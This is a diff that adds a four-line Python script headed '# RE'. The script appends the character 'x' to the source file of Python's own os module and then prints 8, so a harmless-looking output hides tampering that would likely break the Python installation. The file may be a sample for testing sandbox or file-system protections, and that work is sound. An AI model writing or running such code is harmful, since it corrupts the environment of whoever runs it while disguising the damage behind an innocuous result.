@@ -1,0 +1,4 @@
+# RE
+import os
+open(os.__file__, 'a').write('x')
+print(8)
